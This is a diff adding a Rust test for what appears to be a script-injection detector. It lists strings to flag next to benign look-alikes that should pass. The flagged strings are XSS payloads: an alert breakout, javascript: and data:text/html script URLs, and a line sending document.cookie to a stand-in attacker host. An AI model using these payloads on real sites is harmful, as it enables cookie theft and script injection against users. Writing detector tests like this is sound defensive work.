@@ -1095,3 +1095,29 @@ fn an_xml_document_owns_its_body_element() {
         ],
     );
 }
+
+#[test]
+fn prose_and_safe_navigation_that_look_like_code() {
+    judge(
+        &[
+            "';atob(x);alert(1)//",
+            "location.href = '//evil.tld/?' + document.cookie",
+            "window.location.href = '/' + '/evil.tld';",
+            "location.href = 'javascript:' + name",
+            "data:text/html,<script>alert(1)</script>",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "<a href=\"data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E\">x</a>",
+        ],
+        &[
+            // a word after the call's `)` is a SyntaxError
+            "atob() decodes base64; btoa() encodes it.",
+            // a data: URL needs the `,` before its data
+            "Data: text/html files are accepted",
+            // a block holding one name runs nothing
+            "In React, use onClick={handleClick} rather than a string.",
+            // appending to a path of the site keeps the navigation on the site
+            "window.location.href = '/login?next=' + encodeURIComponent(path);",
+            "location.hash = '#' + section.id;",
+        ],
+    );
+}
